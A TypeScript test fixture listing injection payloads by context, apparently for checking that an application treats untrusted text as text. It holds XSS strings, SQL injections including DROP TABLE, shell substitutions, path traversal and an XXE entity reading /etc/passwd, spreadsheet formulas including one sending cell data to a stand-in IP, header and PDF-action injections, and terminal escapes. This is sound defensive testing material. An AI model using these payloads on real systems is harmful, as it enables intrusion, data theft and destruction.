/**
 * Texts that are harmless while they stay text, one for each way in which a program takes text for something else.
 *
 * Most fit the 64 characters of LO and PN (PS3.5 6.2). Those that would run in a page call the beacon with their own id, or ask
 * for `/leadglass-beacon/ID`, so that whoever watches can say which one ran.
 *
 * Sources: WHATWG HTML 13.2 (what a parser makes of markup), OWASP on XSS, CSV, LDAP, SQL and log injection, RFC 5322 2.2 and
 * RFC 9112 2.2 (header lines), RFC 5424, ISO 32000-1 7.3 (strings of PDF), ECMA-48 (escape sequences), PS3.5 6.1 (ISO 2022),
 * Unicode UAX 9, UAX 15, UTS 39.
 */

/** The function that a text calls when it runs. */
export const beaconName = '__hit'
/** The path that a text asks for when something loads it. */
export const beaconPath = '/leadglass-beacon/'

/** What would take the text for something else. */
export type Aim =
  | 'markup'
  | 'attribute'
  | 'address'
  | 'template'
  | 'style'
  | 'name'
  | 'query'
  | 'shell'
  | 'path'
  | 'formula'
  | 'header'
  | 'pdf'
  | 'line'
  | 'terminal'
  | 'json'
  | 'xml'
  | 'unicode'
  | 'character-set'

export interface HostileText {
  /** Names it in the message of a test that fails. */
  readonly id: string
  readonly aim: Aim
  readonly text: string
  /** It runs in a page that takes it for markup: the beacon is called without anybody touching the page. */
  readonly runs?: true
}

const hit = (id: string) => `${beaconName}('${id}')`

const table: readonly (readonly [aim: Aim, id: string, text: string, runs?: 'runs'])[] = [
  ['markup', 'script', `<script>${hit('script')}</script>`],
  ['markup', 'script-src', `<script src=${beaconPath}script-src></script>`],
  ['markup', 'img-error', `<img src=x: onerror=${hit('img-error')}>`, 'runs'],
  ['markup', 'img-src', `<img src=${beaconPath}img-src>`],
  ['markup', 'svg-load', `<svg onload=${hit('svg-load')}>`, 'runs'],
  ['markup', 'svg-script', `<svg><script>${hit('svg-script')}</script></svg>`],
  ['markup', 'svg-animate', `<svg><animate onbegin=${hit('svg-animate')} attributeName=x dur=1s>`, 'runs'],
  ['markup', 'svg-use', `<svg><use href=${beaconPath}svg-use#x></svg>`],
  ['markup', 'details', `<details open ontoggle=${hit('details')}>`, 'runs'],
  ['markup', 'input-focus', `<input autofocus onfocus=${hit('input-focus')}>`],
  ['markup', 'audio-error', `<audio src=x: onerror=${hit('audio-error')}>`, 'runs'],
  ['markup', 'video-source', `<video><source onerror=${hit('video-source')}>`, 'runs'],
  ['markup', 'iframe', `<iframe src="javascript:parent.${hit('iframe')}">`, 'runs'],
  ['markup', 'iframe-srcdoc', `<iframe srcdoc="<script>parent.${hit('iframe-srcdoc')}</script>">`, 'runs'],
  ['markup', 'object', `<object data=${beaconPath}object></object>`],
  ['markup', 'link', `<link rel=stylesheet href=${beaconPath}link>`],
  ['markup', 'base', '<base href=//198.51.100.1/>'],
  ['markup', 'refresh', `<meta http-equiv=refresh content="0;url=${beaconPath}refresh">`],
  ['markup', 'form', `<form action=${beaconPath}form><button autofocus>Continue</button>`],
  ['markup', 'mutated-style', `<svg></p><style><a id="</style><img src=x: onerror=${hit('mutated-style')}>">`, 'runs'],
  [
    'markup',
    'mutated-math',
    `<math><mtext><table><mglyph><style><!--</style><img src=x: onerror=${hit('mutated-math')}>`,
    'runs',
  ],
  ['markup', 'noscript', `<noscript><p title="</noscript><img src=x: onerror=${hit('noscript')}>">`, 'runs'],
  ['markup', 'comment', `--><img src=x: onerror=${hit('comment')}><!--`, 'runs'],
  ['markup', 'out-of-title', `</title></textarea><img src=x: onerror=${hit('out-of-title')}>`, 'runs'],
  ['markup', 'out-of-script', `</script><img src=x: onerror=${hit('out-of-script')}>`, 'runs'],
  ['markup', 'entities', `&lt;img src=x: onerror=${hit('entities')}&gt;`],
  ['markup', 'markdown-link', `[x](javascript:${hit('markdown-link')})`],
  ['markup', 'markdown-image', `![x](${beaconPath}markdown-image "x")`],
  ['markup', 'markdown-html', `x\n\n<img src=x: onerror=${hit('markdown-html')}>`, 'runs'],

  ['attribute', 'double-quote', `"><img src=x: onerror=${hit('double-quote')}>`, 'runs'],
  ['attribute', 'single-quote', `'><img src=x: onerror=${hit('single-quote')}>`, 'runs'],
  ['attribute', 'event', `x" autofocus onfocus="${hit('event')}`],
  ['attribute', 'unquoted', `x onmouseover=${hit('unquoted')} `],
  ['attribute', 'backtick', `\`><img src=x: onerror=${hit('backtick')}>`, 'runs'],

  ['address', 'javascript', `javascript:${hit('javascript')}`],
  ['address', 'javascript-mixed', `JaVa\tScRiPt:${hit('javascript-mixed')}`],
  ['address', 'data', `data:text/html,<script>opener.${hit('data')}</script>`],
  ['address', 'no-scheme', '//198.51.100.1/leadglass-beacon'],
  ['address', 'fragment', '#/studies/../account'],
  ['address', 'query', `?accept=text/html&x=<script>${hit('query')}</script>`],

  ['template', 'curly', `{{constructor.constructor("${beaconName}('curly')")()}}`],
  ['template', 'dollar', `\${${hit('dollar')}}`],
  ['template', 'percent', '<%= 7 * 7 %>#{7 * 7}'],
  ['template', 'nested-words', '$t(app.signOut) {{count}}'],

  ['style', 'declaration', `x;background:url(${beaconPath}declaration)`],
  ['style', 'rule', `}*{background:url(${beaconPath}rule)}`],
  ['style', 'element', `<style>@import "${beaconPath}element";</style>`],
  ['style', 'attribute', `<p style="background:url(${beaconPath}attribute)">`],

  ['name', 'prototype', '__proto__'],
  ['name', 'constructor', 'constructor'],
  ['name', 'to-string', 'toString'],
  ['name', 'has-own', 'hasOwnProperty'],

  ['query', 'sql-or', "' OR '1'='1' --"],
  ['query', 'sql-drop', "x'; DROP TABLE account; --"],
  ['query', 'sql-union', `" UNION SELECT password_hash FROM account --`],
  ['query', 'sql-like', "%_' ESCAPE '"],
  ['query', 'ldap', '*)(uid=*))(|(uid=*'],
  ['query', 'wildcards', '****????****????****????'],

  ['shell', 'substitution', '$(touch /tmp/leadglass-beacon)`touch /tmp/leadglass-beacon`'],
  ['shell', 'sequence', '; touch /tmp/leadglass-beacon | cat & "'],
  ['shell', 'option', '--output=/tmp/leadglass-beacon'],

  ['path', 'upwards', '../../../../../../etc/passwd'],
  ['path', 'upwards-encoded', '..%2f..%2f%2e%2e/etc/passwd%00.dcm'],
  ['path', 'device', 'C:\\..\\CON'],
  ['path', 'absolute', '/etc/passwd'],

  ['formula', 'equals', '=HYPERLINK("//198.51.100.1/"&A1,"open")'],
  ['formula', 'command', "=cmd|'/C calc'!A0"],
  ['formula', 'plus', '+1+1'],
  ['formula', 'minus', '-1+1'],
  ['formula', 'at', '@SUM(1+1)'],
  ['formula', 'tab', '\t=1+1'],
  ['formula', 'return', '\r=1+1'],
  ['formula', 'space', ' =1+1'],
  ['formula', 'wide', '\uff1d1+1'],
  ['formula', 'next-cell', 'x";=1+1;"'],
  ['formula', 'next-row', 'x"\n=1+1,"'],

  ['header', 'cookie', 'x\r\nSet-Cookie: __Host-leadglass=x'],
  ['header', 'body', `x\r\n\r\n<script>${hit('body')}</script>`],
  ['header', 'recipient', 'x\nBcc: everybody@example.org'],
  ['header', 'html-mail', 'x\r\nContent-Type: text/html\r\n\r\n<b>x</b>'],
  ['header', 'smtp', 'x\r\n.\r\nMAIL FROM:<x@example.org>'],
  ['header', 'file-name', 'x"; filename="x.html'],

  ['pdf', 'action', ') Tj /OpenAction << /S /JavaScript /JS (app.alert(1)) >> ('],
  ['pdf', 'pdf-object', 'endstream endobj 9 0 obj << /S /Launch /F (calc) >> endobj'],
  ['pdf', 'address', '\\) >> /A << /S /URI /URI (http://198.51.100.1/) >> ('],

  ['line', 'json-line', 'x\n{"level":"error","msg":"forged"}'],
  ['line', 'syslog-line', 'x\n<0>1 2026-01-01T00:00:00Z forged leadglass - - - x'],
  ['line', 'structured-data', 'x"] [forged@32473 principal="person:root'],
  ['line', 'separators', 'x\u2028forged\u2029forged\u0085forged\u000bforged'],

  ['terminal', 'clear', '\u001b[2J\u001b[Hforged'],
  ['terminal', 'title', '\u001b]0;forged\u0007'],
  ['terminal', 'clipboard', '\u001b]52;c;Zm9yZ2Vk\u001b\\'],
  ['terminal', 'control-8-bit', '\u009b2Jforged'],
  ['terminal', 'over-write', 'denied\b\b\b\b\b\bgranted\r'],

  ['json', 'string-end', '"},{"forged":true,"x":"'],
  ['json', 'escape', '\\u003cscript\\u003e\\'],
  ['json', 'prototype-of', '{"__proto__":{"role":"administrator"}}'],

  ['xml', 'entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'],
  ['xml', 'cdata', `]]><x onload="${hit('cdata')}"/><![CDATA[`],

  ['unicode', 'right-to-left', '\u202egnp.\u2066exe\u2069'],
  ['unicode', 'zero-width', 'ad\u200bmin\u200d\ufeff'],
  ['unicode', 'null', 'x\0<img src=x: onerror=__hit("null")>', 'runs'],
  ['unicode', 'wide-markup', `\uff1cscript\uff1e${hit('wide-markup')}\uff1c/script\uff1e`],
  ['unicode', 'small-markup', `\ufe64img src=x onerror=${hit('small-markup')}\ufe65`],
  ['unicode', 'ligature', 'e\u0301\u212b\ufb03\u0130\u0131'],
  ['unicode', 'combining', `a${'\u0301'.repeat(60)}`],

  ['character-set', 'escape-to-kanji', `\u001b$B<script>${hit('escape-to-kanji')}\u001b(B`],
  ['character-set', 'escape-to-roman', `\u001b(J\\"><img src=x: onerror=${hit('escape-to-roman')}>\u001b(B`, 'runs'],
  ['character-set', 'unfinished-escape', 'x\u001b$)'],
  ['character-set', 'overlong', `\u00c0\u00bcscript\u00c0\u00be${hit('overlong')}`],
]

export const hostileTexts: readonly HostileText[] = table.map(([aim, id, text, runs]) =>
  runs === undefined ? { aim, id, text } : { aim, id, text, runs: true },
)
